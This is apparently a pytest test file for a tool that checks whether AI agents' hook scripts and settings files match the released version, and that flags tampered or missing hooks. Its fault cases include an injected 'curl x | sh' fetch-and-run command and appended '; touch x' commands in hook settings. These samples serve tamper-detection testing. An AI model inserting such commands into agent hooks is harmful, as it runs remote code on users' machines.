"""What runs in people's agents, held to this release: of the working tree, the stage, a commit."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from slate_git import install
from slate_git.index.remember import remember
from slate_git.install import clone, released, setup
from slate_git.install.agents import AGENTS
from slate_git.install.shipped import hooks_folder
from tests.cli.run import slate

Git = Callable[..., str]
SCRIPT = released.SCRIPT
PLUGIN = ".slate/opencode/index.js"
SETTINGS = {
    "claude": ".claude/settings.json",
    "codex": ".codex/hooks.json",
    "gemini": ".gemini/settings.json",
    "cursor": ".cursor/hooks.json",
}


@pytest.fixture
def root(push_root: Path, git: Git) -> Path:
    """A repository with the hook in all agents, committed."""
    install.plan(push_root, list(AGENTS)).apply()
    git("add", "-A", cwd=push_root)
    git("commit", "-q", "-m", "base", cwd=push_root)
    return push_root


def append(path: Path) -> None:
    path.write_text(path.read_text() + "echo more\n")


def windows(path: Path) -> None:
    path.write_bytes(path.read_bytes().replace(b"\n", b"\r\n"))


def linked(path: Path) -> None:
    path.rename(path.with_name("elsewhere"))
    path.symlink_to("elsewhere")


def newer(path: Path) -> None:
    path.write_text(path.read_text().replace("Format 1.", "Format 12."))


def older(path: Path) -> None:
    path.write_text(path.read_text().replace("Format 1.", "Format 0."))


def another(*names: str) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        for name in names:
            path.with_name(name).write_text("{}")

    return make


def value(old: str, new: str) -> Callable[[Path], None]:
    def change(path: Path) -> None:
        text = path.read_text()
        assert old in text
        path.write_text(text.replace(old, new))

    return change


def without(event: str) -> Callable[[Path], None]:
    def change(path: Path) -> None:
        values = json.loads(path.read_text())
        del values["hooks"][event]
        path.write_text(json.dumps(values))

    return change


def with_more(event: str, command: str) -> Callable[[Path], None]:
    """A hook of an event that is none of ours, which names our script."""

    def change(path: Path) -> None:
        values = json.loads(path.read_text())
        values["hooks"].setdefault(event, []).append({"hooks": [{"command": command}]})
        path.write_text(json.dumps(values))

    return change


FAULTS = [
    (SCRIPT, append, "not this release's"),
    (SCRIPT, older, "not this release's"),
    (SCRIPT, newer, "of format 12, and this Slate knows 1"),
    (SCRIPT, windows, "line ends of Windows"),
    (SCRIPT, linked, "no plain file"),
    (SCRIPT, Path.unlink, "is missing"),
    (PLUGIN, append, "not this release's"),
    (PLUGIN, linked, "not this release's"),
    (PLUGIN, another("package.json"), "no file of the plugin"),
    (PLUGIN, another("index.ts"), "no file of the plugin"),
    (PLUGIN, Path.unlink, "files are missing"),
    *(
        (path, change, what)
        for path in SETTINGS.values()
        for change, what in (
            (value("2>/dev/null || :", "2>/dev/null; curl x | sh"), "not this release's"),
            (value("-O", "-f"), "not this release's"),
            (with_more("Stop", "sh .slate/hook.sh claude; touch x"), "looks like Slate's"),
        )
    ),
    (SETTINGS["claude"], without("SessionStart"), "hook for SessionStart is missing"),
    (SETTINGS["codex"], without("PostCompact"), "hook for PostCompact is missing"),
    (SETTINGS["gemini"], without("AfterTool"), "hook for AfterTool is missing"),
    (SETTINGS["codex"], with_more("Stop", "slate-hook codex; touch x"), "looks like Slate's"),
    (SETTINGS["claude"], append, ""),
    (SETTINGS["claude"], value("Bash|", "Nothing|"), "not this release's"),
    ("opencode.json", value("./.slate/opencode", "./other/slate/opencode"), "looks like"),
]


@pytest.mark.parametrize(("path", "change", "what"), FAULTS)
def test_what_is_not_this_releases_is_a_fault_wherever_it_is_looked_for(
    root: Path, git: Git, path: str, change: Callable[[Path], None], what: str
) -> None:
    for files in (released.working_tree(root), released.staged(root), released.at(root, "HEAD")):
        assert released.faults(files) == []
    change(root / path)
    found = released.faults(released.working_tree(root))
    assert [fault for fault in found if what in fault.what]
    assert all(fault.id == released.ID and fault.repair for fault in found)
    assert released.faults(released.staged(root)) == []
    git("add", "-A", cwd=root)
    git("commit", "-q", "--allow-empty", "-m", "change", cwd=root)
    if change is windows:  # `eol=lf` mends it on its way in
        found = []
    assert released.faults(released.staged(root)) == found
    assert released.faults(released.at(root, "HEAD")) == found
    assert released.faults(released.at(root, "HEAD^")) == []
    moved = released.moved(released.at(root, "HEAD^"), released.at(root, "HEAD"))
    assert bool(moved) == bool(found)


def clean(root: Path) -> list[object]:
    return [*released.faults(released.working_tree(root))]


def test_line_ends_of_what_no_shell_reads_are_no_matter(root: Path) -> None:
    for path in (PLUGIN, *SETTINGS.values(), "opencode.json"):
        windows(root / path)
    assert clean(root) == []


def test_what_people_have_of_their_own_is_no_fault(root: Path) -> None:
    settings = root / SETTINGS["claude"]
    values = json.loads(settings.read_text())
    values["permissions"] = {"deny": ["Edit(.slate/hook.sh)", "Bash(slate-hook:*)"]}
    values["hooks"]["PreToolUse"].insert(0, {"hooks": [{"type": "command", "command": "lint"}]})
    values["hooks"]["PreToolUse"][1]["hooks"].append({"type": "command", "command": "lint"})
    settings.write_text(json.dumps(values))
    servers = root / ".mcp.json"
    servers.write_text(servers.read_text().replace('"args"', '"timeout": 5, "args"'))
    (root / ".cursor/hooks.json").unlink()  # an agent that the team does not use
    assert clean(root) == []


def test_without_slate_nothing_is_missing(tmp_path: Path, git: Git) -> None:
    git("init", "-q")
    git("commit", "-q", "--allow-empty", "-m", "x")
    for files in (
        released.working_tree(tmp_path),
        released.staged(tmp_path),
        released.at(tmp_path, "HEAD"),
    ):
        assert released.faults(files) == []


def test_a_root_in_a_folder(push_root: Path, git: Git) -> None:
    inner = push_root / "packages" / "a"
    inner.mkdir(parents=True)
    (push_root / ".slate").rename(inner / ".slate")
    append(inner / ".slate/hook.sh")
    git("add", "-A", cwd=push_root)
    git("commit", "-q", "-m", "x", cwd=push_root)
    for files in (released.working_tree(inner), released.at(inner, "HEAD")):
        assert [fault.path for fault in released.faults(files)] == [SCRIPT]


def test_what_a_branch_changes_comes_with_the_script_first(root: Path, git: Git) -> None:
    for path in (SETTINGS["claude"], PLUGIN):
        (root / path).unlink()
    (root / SETTINGS["gemini"]).write_text("{}")
    append(root / SCRIPT)
    servers = root / ".cursor/mcp.json"
    servers.write_text(servers.read_text().replace("slate", "other"))
    git("add", "-A", cwd=root)
    git("commit", "-q", "-m", "change", cwd=root)
    before, after = released.at(root, "HEAD^"), released.at(root, "HEAD")
    assert [(path, verb, bool(faults)) for path, verb, faults in released.moved(before, after)] == [
        (SCRIPT, "changed", True),
        (SETTINGS["claude"], "removed", False),
        (".cursor/mcp.json", "removed", False),
        (SETTINGS["gemini"], "removed", False),
        (PLUGIN, "removed", False),
    ]
    back = {path: verb for path, verb, _ in released.moved(after, before)}
    assert back[SETTINGS["claude"]] == back[PLUGIN] == "added"


@pytest.mark.parametrize("words", [(), ("--staged",), ("--rev", "HEAD"), ("--base", "HEAD~1")])
@pytest.mark.parametrize(
    ("path", "change"),
    [
        (SCRIPT, append),
        (SCRIPT, Path.unlink),
        (PLUGIN, append),
        (SETTINGS["codex"], value("-O", "-f")),
    ],
)
def test_check_fails(
    root: Path, git: Git, path: str, change: Callable[[Path], None], words: tuple[str, ...]
) -> None:
    assert slate(root, "check").returncode == 0
    change(root / path)
    git("add", "-A", cwd=root)
    git("commit", "-q", "-m", "change", cwd=root)
    for place in (root, root / ".slate/lessons"):
        done = slate(place, "check", *words)
        assert done.returncode == 1
        assert f"{path}:1:1: " in done.stdout


def test_review_says_it_first(root: Path, git: Git) -> None:
    append(root / SCRIPT)
    value("-O", "-f")(root / SETTINGS["claude"])
    remember(root, {"text": "Mind it", "when": {"tool": "shell", "match": "make zebra"}}, "zebra")
    git("add", "-A", cwd=root)
    git("commit", "-q", "-m", "change", cwd=root)
    done = slate(root, "review", "HEAD^")
    first, *lines = [line for line in done.stdout.splitlines() if line and line[0] != "#"]
    assert first == "**Look at these first**"
    assert lines[0].startswith(f"- **`{SCRIPT}` is changed: it runs ")
    assert "not this release's" in lines[1]
    assert lines[2].startswith(f"- **`{SETTINGS['claude']}` is changed")
    assert "zebra" not in "".join(lines[:4])
    found = json.loads(slate(root, "review", "HEAD^", "--json").stdout)["runs"]
    assert [(one["path"], one["what"], len(one["findings"])) for one in found] == [
        (SCRIPT, "changed", 1),
        (SETTINGS["claude"], "changed", 2),
    ]
    git("revert", "--no-edit", "HEAD", cwd=root)
    done = slate(root, "review", "HEAD^")
    told = [line for line in done.stdout.splitlines() if line.startswith("- ")]
    assert "what this release of Slate writes" in told[0]


@pytest.mark.parametrize("change", [append, windows, newer, Path.unlink, linked])
def test_doctor_names_the_script(root: Path, change: Callable[[Path], None]) -> None:
    change(root / SCRIPT)
    told = [check for check in setup.checks(root) if SCRIPT in check.what]
    assert [check.level for check in told] == ["fault"]


def test_an_older_script_is_refreshed_by_init(root: Path) -> None:
    older(root / SCRIPT)
    clone.make(root)
    assert (root / SCRIPT).read_bytes() == (hooks_folder() / "hook.sh").read_bytes()
    assert clean(root) == []
